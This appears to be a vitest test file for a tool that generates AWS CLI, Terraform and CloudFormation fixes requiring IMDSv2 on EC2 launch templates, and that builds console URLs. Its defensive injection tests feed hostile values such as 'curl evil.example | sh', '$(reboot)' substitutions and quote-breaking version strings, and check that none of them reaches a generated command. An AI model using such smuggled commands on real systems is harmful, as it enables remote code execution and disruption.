import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { consoleUrl } from '../../../../lib/domain/story/console-url.ts';
import { fixesFor } from '../../../../lib/domain/story/how-to-fix.ts';
import { v2Only } from '../../../given.ts';

const source = {
  region: 'eu-west-1',
  launchTemplateId: 'lt-0a1b2c3d4e5f60718',
  autoScalingGroup: null,
  tags: { 'aws:ec2launchtemplate:version': '7' },
};
const options = { ...v2Only, httpPutResponseHopLimit: 2 };

function codeFor(place: string, fixes = fixesFor({ httpTokens: 'required' }, options, source)): string {
  return fixes.find((fix) => fix.place === place)?.code ?? 'none';
}

describe('the fix', () => {
  it('of a launch template makes a version from the one in use, and makes it the default', () => {
    const [fix] = fixesFor({ httpTokens: 'required' }, options, source);

    expect(fix).toEqual({
      place: 'launch-template',
      title: 'Launch template lt-0a1b2c3d4e5f60718',
      code: [
        'VERSION=$(aws ec2 create-launch-template-version --region eu-west-1 --launch-template-id lt-0a1b2c3d4e5f60718 \\',
        `  --source-version '7' --launch-template-data '{"MetadataOptions":{"HttpEndpoint":"enabled","HttpTokens":"required","HttpPutResponseHopLimit":2}}' \\`,
        '  --query LaunchTemplateVersion.VersionNumber --output text)',
        'aws ec2 modify-launch-template --region eu-west-1 --launch-template-id lt-0a1b2c3d4e5f60718 --default-version "$VERSION"',
      ].join('\n'),
    });
  });

  it('of a launch template reminds of the group that may name a version', () => {
    const [fix] = fixesFor({ httpTokens: 'required' }, options, { ...source, autoScalingGroup: 'web' });

    expect(fix?.title).toBe('Launch template lt-0a1b2c3d4e5f60718, and its group where that names a version');
  });

  it('of a launch template starts from its default where the version in use is not known', () => {
    const code = codeFor(
      'launch-template',
      fixesFor({ httpTokens: 'required' }, {}, { ...source, tags: {} }),
    );

    expect(code).toContain("--source-version '$Default'");
    expect(code).toContain(`'{"MetadataOptions":{"HttpTokens":"required"}}'`);
  });

  it('of a launch template starts from a version of several digits', () => {
    const tags = { 'aws:ec2launchtemplate:version': '123456789' };
    const fixes = fixesFor({ httpTokens: 'required' }, {}, { ...source, tags });

    expect(codeFor('launch-template', fixes)).toContain("--source-version '123456789'");
  });

  it('is called by where it is made', () => {
    const fixes = fixesFor({ httpTokens: 'required' }, options, { ...source, launchTemplateId: null });

    expect(fixes.map(({ title }) => title)).toEqual(['Terraform', 'CloudFormation']);
  });

  it('in Terraform is a block, with what is right written down too', () => {
    expect(codeFor('terraform')).toBe(
      [
        'metadata_options {',
        '  http_endpoint               = "enabled"',
        '  http_tokens                 = "required"',
        '  http_put_response_hop_limit = 2',
        '}',
      ].join('\n'),
    );
  });

  it('in CloudFormation is YAML that says what EC2 wants', () => {
    const fixes = fixesFor(
      { httpPutResponseHopLimit: 1, httpProtocolIpv6: 'disabled', instanceMetadataTags: 'disabled' },
      options,
      source,
    );

    expect(parse(codeFor('cloudformation', fixes))).toEqual({
      LaunchTemplateData: {
        MetadataOptions: {
          HttpEndpoint: 'enabled',
          HttpPutResponseHopLimit: 1,
          HttpProtocolIpv6: 'disabled',
          InstanceMetadataTags: 'disabled',
        },
      },
    });
  });

  it.each([
    ['launch template', { launchTemplateId: 'lt-1; curl evil.example | sh' }],
    ['launch template', { launchTemplateId: '$(reboot)lt-0a1b2c3d4e5f60718' }],
    ['Region', { region: 'eu-west-1 $(reboot)' }],
    ['Region', { region: '$(reboot) eu-west-1' }],
  ])('takes no %s into a command that is none', (_what, differences) => {
    const fixes = fixesFor({ httpTokens: 'required' }, options, { ...source, ...differences });

    expect(fixes.map(({ place }) => place)).toEqual(['terraform', 'cloudformation']);
  });

  it.each(["1' --dry-run '", "' --dry-run '1", '$(reboot)1'])(
    'takes no version %j into a command',
    (version) => {
      const tags = { 'aws:ec2launchtemplate:version': version };

      expect(
        codeFor('launch-template', fixesFor({ httpTokens: 'required' }, {}, { ...source, tags })),
      ).toContain("--source-version '$Default'");
    },
  );

  it('is none where nothing is to be changed, or nobody could say to what', () => {
    expect(fixesFor({}, options, source)).toEqual([]);
    expect(fixesFor({ httpPutResponseHopLimit: Number.NaN }, options, source)).toEqual([]);
  });
});

describe("an instance's address in the console", () => {
  it.each([
    ['eu-west-1', 'https://console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=i-0a'],
    [
      'us-gov-west-1',
      'https://console.amazonaws-us-gov.com/ec2/home?region=us-gov-west-1#InstanceDetails:instanceId=i-0a',
    ],
    ['cn-north-1', 'https://console.amazonaws.cn/ec2/home?region=cn-north-1#InstanceDetails:instanceId=i-0a'],
    [
      'eusc-de-east-1',
      'https://console.amazonaws-eusc.eu/ec2/home?region=eusc-de-east-1#InstanceDetails:instanceId=i-0a',
    ],
  ])('in %s is that of its partition', (region, url) => {
    expect(consoleUrl({ accountId: '111122223333', region, instanceId: 'i-0a' })).toBe(url);
  });

  it('is no longer than an id needs', () => {
    const url = consoleUrl({ accountId: '1', region: 'eu-west-1', instanceId: 'i'.repeat(65) });

    expect(url.split('=').at(-1)).toBe('i'.repeat(64));
  });

  it('cannot be turned elsewhere by an id or a Region', () => {
    const hostile = {
      accountId: '1',
      region: '@evil.example/&',
      instanceId: `/../#?|>${'\ud83d'.repeat(99)}`,
    };

    const url = consoleUrl(hostile);

    expect(url).toBe(
      'https://console.aws.amazon.com/ec2/home?region=evilexample#InstanceDetails:instanceId=',
    );
  });
});
